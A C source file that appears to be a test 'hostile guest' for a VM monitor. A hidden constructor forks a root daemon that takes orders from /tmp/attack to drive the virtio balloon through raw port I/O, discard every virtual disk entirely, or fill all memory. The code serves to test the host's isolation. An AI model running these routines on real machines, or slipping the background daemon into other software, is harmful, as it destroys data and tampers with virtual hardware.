/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * A hostile guest: linked with all of bulkhead-guest, it is the agent of an AppVM and besides that a process that
 * is root in there and does to the (virtual) hardware what a program's text in /tmp/attack asks for. The answer is
 * in /tmp/attack.done.
 *
 * balloon   find a balloon, take it from the kernel and give memory back through it: by inflating it, and by
 *           reporting it as free
 * discard   discard all of every disk
 * fill      write all memory that there is */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define ORDER "/tmp/attack"
#define PAGE 4096ul
#define DEVICES "/sys/bus/pci/devices"
/* Virtio 1.2, 4.1.4.8 (legacy registers) and 5.5 (balloon). */
#define GUEST_FEATURES 0x04
#define QUEUE_PFN 0x08
#define QUEUE_SIZE 0x0c
#define QUEUE_SELECT 0x0e
#define QUEUE_NOTIFY 0x10
#define STATUS 0x12
#define DRIVER_OK 7
#define F_REPORTING 5
#define INFLATE 0
#define REPORT 3
#define DESC_WRITE 2
#define VICTIMS 256u
#define MARGIN (24ul << 20)

typedef struct
{
  uint64_t address;
  uint32_t length;
  uint16_t flags, next;
} Descriptor;

typedef struct
{
  uint16_t port;
  uint8_t *pool; /* memory whose place in the machine is known */
  unsigned long pages;
} Balloon;

static FILE *answer;
/* What it gives back: memory that it had, with something in it, when its guest was frozen. */
#define POOL_PAGES 4096ul
static uint8_t *pool;

__attribute__ ((format (printf, 1, 2))) static void
say (const char *format, ...)
{
  va_list args;

  va_start (args, format);
  vfprintf (answer, format, args);
  va_end (args);
  fputc ('\n', answer);
}

static bool
write_text (const char *path, const char *text)
{
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  bool ok = fd >= 0 && write (fd, text, strlen (text)) == (ssize_t) strlen (text);

  if (fd >= 0)
    close (fd);
  return ok;
}

static unsigned long
read_number (const char *device, const char *name)
{
  char path[512];
  unsigned long value = 0;
  FILE *file;

  snprintf (path, sizeof path, DEVICES "/%s/%s", device, name);
  file = fopen (path, "re");
  if (file)
    {
      if (fscanf (file, "%lx", &value) != 1)
        value = 0;
      fclose (file);
    }
  return value;
}

static uint64_t
physical (const void *at)
{
  int fd = open ("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
  uint64_t entry = 0;

  if (fd < 0 || pread (fd, &entry, sizeof entry, (off_t) ((uintptr_t) at / PAGE * sizeof entry)) != sizeof entry)
    entry = 0;
  if (fd >= 0)
    close (fd);
  return (entry & ((1ull << 55) - 1)) * PAGE;
}

/* Four pages that follow each other in the machine as well; NULL if there are none. */
static uint8_t *
find_run (const Balloon *balloon)
{
  unsigned long run = 1;

  for (unsigned long i = 1; i < balloon->pages; i++)
    {
      const uint8_t *page = balloon->pool + i * PAGE;

      run = physical (page) == physical (page - PAGE) + PAGE ? run + 1 : 1;
      if (run == 4)
        return balloon->pool + (i - 3) * PAGE;
    }
  return NULL;
}

/* Pages of the pool that are not in use otherwise, from the end. */
static uint8_t *
victim (const Balloon *balloon, unsigned i)
{
  return balloon->pool + (balloon->pages - 1 - i) * PAGE;
}

static unsigned
count_lost (const Balloon *balloon)
{
  unsigned lost = 0;

  for (unsigned i = 0; i < VICTIMS; i++)
    lost += *victim (balloon, i) != 0x5a;
  return lost;
}

/* Give all victims back through a queue; how many have lost their content. */
static void
give_back (const Balloon *balloon, uint16_t queue, uint8_t *ring, uint32_t features, const char *what)
{
  uint32_t *numbers = (uint32_t *) (ring + 3 * PAGE);
  Descriptor *table = (Descriptor *) ring;
  volatile uint16_t *available, *used;
  uint16_t size, n = 1;

  for (unsigned i = 0; i < VICTIMS; i++)
    memset (victim (balloon, i), 0x5a, PAGE);
  memset (ring, 0, 4 * PAGE);
  outb (0, balloon->port + STATUS);
  outb (3, balloon->port + STATUS);
  outl (features, balloon->port + GUEST_FEATURES);
  outw (queue, balloon->port + QUEUE_SELECT);
  size = inw (balloon->port + QUEUE_SIZE);
  available = (volatile uint16_t *) (ring + sizeof (Descriptor) * size);
  used = (volatile uint16_t *) (ring + (sizeof (Descriptor) * size + 6 + 2ul * size + PAGE - 1) / PAGE * PAGE);
  if (size == 0 || (uint8_t *) used + 6 + 8ul * size > ring + 3 * PAGE)
    {
      say ("%s: a queue of %u", what, size);
      return;
    }
  outl ((uint32_t) (physical (ring) / PAGE), balloon->port + QUEUE_PFN);
  outb (DRIVER_OK, balloon->port + STATUS);
  if (queue == REPORT)
    for (n = 0; n < VICTIMS && n < size; n++)
      {
        table[n] = (Descriptor){ physical (victim (balloon, n)), PAGE, DESC_WRITE, 0 };
        available[2 + n] = n;
      }
  else
    {
      for (unsigned i = 0; i < VICTIMS; i++)
        numbers[i] = (uint32_t) (physical (victim (balloon, i)) / PAGE);
      table[0] = (Descriptor){ physical (numbers), VICTIMS * sizeof *numbers, 0, 0 };
    }
  __sync_synchronize ();
  available[1] = n;
  __sync_synchronize ();
  outw (queue, balloon->port + QUEUE_NOTIFY);
  for (int i = 0; i < 200 && used[1] != n; i++)
    usleep (10000);
  say ("%s: %u of %u taken, %u pages lost", what, used[1], n, count_lost (balloon));
  outb (0, balloon->port + STATUS);
}

static void
drive_balloon (const char *device)
{
  Balloon balloon = { .pool = pool, .pages = POOL_PAGES };
  char path[512];
  uint8_t *ring;
  int fd;

  write_text ("/sys/bus/pci/drivers/virtio-pci/unbind", device);
  snprintf (path, sizeof path, DEVICES "/%s/enable", device);
  write_text (path, "1");
  snprintf (path, sizeof path, DEVICES "/%s/config", device);
  fd = open (path, O_RDWR | O_CLOEXEC);
  if (fd < 0 || pwrite (fd, "\x07", 1, 4) != 1) /* I/O, memory, bus master */
    say ("%s cannot be switched on: %s", device, strerror (errno));
  if (fd >= 0)
    close (fd);
  balloon.port = (uint16_t) read_number (device, "resource");
  if (balloon.pool == MAP_FAILED || balloon.port == 0 || iopl (3) != 0 || !(ring = find_run (&balloon)))
    {
      say ("%s cannot be driven: %s", device, strerror (errno));
      return;
    }
  give_back (&balloon, INFLATE, ring, 0, "inflate");
  give_back (&balloon, REPORT, ring, 1u << F_REPORTING, "report");
}

static void
attack_balloon (void)
{
  DIR *dir = opendir (DEVICES);
  struct dirent *entry;
  unsigned devices = 0, found = 0;

  while (dir && (entry = readdir (dir)))
    {
      unsigned long id = read_number (entry->d_name, "device");

      if (entry->d_name[0] == '.' || read_number (entry->d_name, "vendor") != 0x1af4)
        continue;
      devices++;
      if (id != 0x1002 && id != 0x1045)
        continue;
      found++;
      drive_balloon (entry->d_name);
    }
  if (dir)
    closedir (dir);
  say ("%u balloons among %u virtio devices", found, devices);
}

static void
attack_disks (void)
{
  DIR *dir = opendir ("/sys/class/block");
  struct dirent *entry;

  while (dir && (entry = readdir (dir)))
    {
      char path[512];
      uint64_t range[2] = { 0, 0 };
      int fd;

      if (strncmp (entry->d_name, "vd", 2) != 0)
        continue;
      snprintf (path, sizeof path, "/dev/%s", entry->d_name);
      fd = open (path, O_RDWR | O_CLOEXEC);
      if (fd < 0 || ioctl (fd, BLKGETSIZE64, &range[1]) != 0 || ioctl (fd, BLKDISCARD, range) != 0)
        say ("%s: %s", entry->d_name, strerror (errno));
      else
        say ("%s: %lu bytes discarded", entry->d_name, (unsigned long) range[1]);
      if (fd >= 0)
        close (fd);
    }
  if (dir)
    closedir (dir);
}

static void
fill_memory (void)
{
  FILE *file = fopen ("/proc/meminfo", "re");
  unsigned long kib = 0, size;
  char line[256];
  uint8_t *memory;

  while (file && fgets (line, sizeof line, file))
    if (sscanf (line, "MemAvailable: %lu", &kib) == 1)
      break;
  if (file)
    fclose (file);
  size = kib * 1024 > 2 * MARGIN ? kib * 1024 - MARGIN : MARGIN;
  memory = mmap (NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (unsigned long at = 0; memory != MAP_FAILED && at < size; at += 8)
    *(uint64_t *) (memory + at) = 0x0a77ac0ffee00000ull + at;
  say ("%lu MiB written", memory != MAP_FAILED ? size >> 20 : 0);
  if (memory != MAP_FAILED)
    munmap (memory, size);
}

static void
obey (const char *order, uid_t asker)
{
  answer = fopen (ORDER ".new", "we");
  if (!answer)
    return;
  if (strcmp (order, "balloon") == 0)
    attack_balloon ();
  else if (strcmp (order, "discard") == 0)
    attack_disks ();
  else if (strcmp (order, "fill") == 0)
    fill_memory ();
  if (fchown (fileno (answer), asker, (gid_t) -1) != 0) /* who removes it */
    say ("the answer stays mine");
  fclose (answer);
  rename (ORDER ".new", ORDER ".done");
}

/* Before the agent's own main(). */
__attribute__ ((constructor)) static void
begin (void)
{
  if (fork () != 0)
    return;
  setsid ();
  pool = mmap (NULL, POOL_PAGES * PAGE, PROT_READ | PROT_WRITE,
               MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);
  if (pool != MAP_FAILED)
    memset (pool, 0x5a, POOL_PAGES * PAGE);
  for (;;)
    {
      struct stat st = { 0 };
      char order[32] = "";
      int fd = open (ORDER, O_RDONLY | O_CLOEXEC);
      ssize_t n = fd >= 0 ? read (fd, order, sizeof order - 1) : 0;

      if (fd >= 0)
        {
          fstat (fd, &st);
          close (fd);
        }
      if (n > 0 && order[n - 1] == '\n')
        {
          unlink (ORDER);
          order[n - 1] = '\0';
          obey (order, st.st_uid);
        }
      usleep (100000);
    }
}
